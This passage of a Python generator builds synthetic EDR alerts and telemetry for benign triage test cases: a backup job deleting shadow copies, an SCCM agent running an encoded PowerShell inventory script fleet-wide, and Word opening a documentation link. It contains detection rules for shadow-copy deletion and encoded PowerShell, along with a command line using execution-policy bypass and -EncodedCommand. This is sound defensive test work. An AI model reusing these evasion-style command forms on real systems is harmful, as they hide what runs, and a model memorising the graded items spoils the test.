            2,
            "backup-vss-1",
            confidence=2,
            score=55,
            disposition=15,
            analytic={
                "name": "Shadow copy deletion via vssadmin",
                "uid": "edr-rule-2204",
                "type": "Rule",
                "type_id": 1,
            },
            desc="vssadmin.exe deleted volume shadow copies of C:.",
            evidences=[{"name": "Shadow copy deletion", "process": alert_child}],
            started=T - timedelta(minutes=4),
            types=("Impact",),
            techniques=("T1490",),
        ),
        events,
        {},
    )


def it_script_encoded(rng: random.Random) -> None:
    ccmexec = "C:\\Windows\\CCM\\CcmExec.exe"
    inventory = (
        "Get-CimInstance Win32_OperatingSystem | Select-Object CSName,Caption,Version,LastBootUpTime | "
        "ConvertTo-Json -Compress"
    )
    command = f"powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {encoded(inventory)}"
    alerted = "WS-ENG-17"
    # A small customer's fleet: enough hosts to be a baseline, few enough to keep the corpus small.
    hosts = [f"WS-{dept}-{n:02d}" for dept in ("ACC", "HR", "ENG") for n in range(12, 20)]
    hosts += [f"SRV-APP-{n:02d}" for n in range(1, 5)]
    events = []
    alert_child: dict = {}
    for host in hosts:
        agent = proc(ccmexec, f'"{ccmexec}"', rng.randint(2000, 9000), signer="microsoft", user=SYSTEM_USER)
        # The configuration baseline runs daily at 08:00 UTC, each client randomised within the hour.
        offset = timedelta(seconds=rng.randint(0, 3000))
        for day in range(30, -1, -1):
            when = T.replace(hour=8, minute=0) - timedelta(days=day) + offset
            when += timedelta(seconds=rng.randint(0, 120))
            if host == alerted and day == 0:
                when = T - timedelta(minutes=6)
            child = proc(
                POWERSHELL,
                command,
                rng.randint(1000, 30000) // 4 * 4,
                user=SYSTEM_USER,
                parent=agent,
                started=when,
            )
            events.append(launch("acme", host, child))
            if host == alerted and day == 0:
                alert_child = child
    alert_child = {**alert_child, "file": image(POWERSHELL, signer="windows")}
    write(
        "it-script-encoded-benign",
        {
            "verdict": "benign",
            "must_answer": ["How prevalent is it?"],
            "description": "issue 9 twin: the signed SCCM agent runs the same encoded inventory script (no download, "
            f"no hidden window) every day on all {len(hosts)} hosts of this customer, 30 days before the alert",
        },
        edr_alert(
            "Encoded PowerShell command executed",
            alerted,
            "10.20.60.117",
            3,
            "it-enc-1",
            confidence=1,
            score=45,
            disposition=15,
            analytic={
                "name": "PowerShell with -EncodedCommand",
                "uid": "edr-rule-1102",
                "type": "Rule",
                "type_id": 1,
            },
            desc="powershell.exe ran with -EncodedCommand and -ExecutionPolicy Bypass.",
            evidences=[{"name": "Encoded PowerShell", "process": alert_child}],
            started=T - timedelta(minutes=6),
            types=("Execution",),
            techniques=("T1059.001", "T1027.010"),
        ),
        events,
        {},
    )


def office_help_link(rng: random.Random) -> None:
    host, account = "WS-OPS-14", "s.patel"
    site, addresses = "learn.microsoft.com", ("198.51.100.140", "198.51.100.141")
    link = (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/"
        "about_execution_policies"
    )
    document = f"C:\\Users\\{account}\\OneDrive - Acme\\IT\\Onboarding\\PowerShell-for-admins.docx"
    word = proc(
        WINWORD,
        f'"{WINWORD}" /n "{document}" /o ""',
        6188,
        signer="microsoft",
        user=person(account),
        started=T - timedelta(minutes=26),
    )
    edge = proc(
        EDGE,
        f'"{EDGE}" --single-argument {link}',
        10472,
        signer="microsoft",
        user=person(account),
        parent=word,
        started=T - timedelta(seconds=95),
    )

    def visit(tenant: str, who: str, when: datetime, browser: str, pid: int, *, signer: bool) -> dict:
        return event(
            4001,
            tenant,
            who,
            when,
            activity_id=6,
            activity_name="Traffic",
            dst_endpoint={"hostname": site, "ip": rng.choice(addresses), "port": 443},
            tls={"version": "1.3", "sni": site},
            traffic={"bytes_out": rng.randint(1500, 9000), "bytes_in": rng.randint(40_000, 900_000)},
            actor={
                "process": {
                    "name": browser.rsplit("\\", 1)[-1],
                    "pid": pid,
                    "file": image(browser, signer="microsoft" if signer else None),
                }
            },
        )

    events = [
        event(
            1007,
            "acme",
            host,
            T - timedelta(seconds=95),
            activity_id=1,
            activity_name="Launch",
            actor={"process": {"name": "WINWORD.EXE", "pid": 6188}},
            process=edge,
        ),
        event(
            4003,
            "acme",
            host,
            T - timedelta(seconds=94),
            activity_id=2,
            activity_name="Response",
            query={"hostname": site, "type": "A", "class": "IN"},
            answers=[{"rdata": addresses[0], "type": "A", "ttl": 300}],
            rcode_id=0,
            rcode="NoError",
            actor={"process": {"name": "msedge.exe", "pid": 10472}},
        ),
        *(visit("acme", host, T - timedelta(seconds=93 - 4 * n), EDGE, 10472, signer=True) for n in range(6)),
    ]
    # Everyday destination: over the week before, hundreds of hosts of five customers browse to it.
    for _ in range(900):
        tenant = rng.choice(["acme", "tenant-0", "tenant-1", "tenant-2", "tenant-3"])
        prefix = "WS" if tenant == "acme" else tenant.upper()
        who = f"{prefix}-PC-{rng.randint(1, 180):03d}"
        browser = rng.choice([EDGE, EDGE, CHROME])
        when = T - timedelta(seconds=rng.randint(300, 7 * 86400))
        events.append(visit(tenant, who, when, browser, rng.randint(1000, 30000) // 4 * 4, signer=True))
    write(
        "office-help-link-benign",
        {
            "verdict": "benign",
            "must_answer": ["How prevalent is it?"],
            "description": "issue 9 twin: Word opens a link to PowerShell documentation in a document; the signed "
            "browser fetches learn.microsoft.com, which hundreds of hosts of five customers reach every day",
        },
        edr_alert(
            "Office application launched a process",
            host,
            "10.20.50.24",
            1,
            "office-link-1",
            confidence=1,
            score=20,
            disposition=15,
            analytic={
                "name": "Office application child process",
                "uid": "edr-rule-1180",
                "type": "Rule",
                "type_id": 1,
            },
            desc="WINWORD.EXE started msedge.exe.",
            evidences=[{"name": "Office child process", "process": edge}],
            started=T - timedelta(seconds=95),
            types=("Execution",),
        ),
        events,
        {},
    )


def main() -> None:
    rng = random.Random(2026)
    builds = (
        duobean, cdn, update_beacon, adware, stale_ip, mykings, pcastle, attack_tool,
        ransomware_shadow_delete, office_encoded_powershell, task_hidden_cradle, unanswered_gray,
        backup_shadow_cleanup, it_script_encoded, office_help_link,
    )  # fmt: skip
    for build in builds:  # new cases go last: each draws from the same seeded generator
        build(rng)
        print("wrote", build.__name__)


if __name__ == "__main__":
    main()
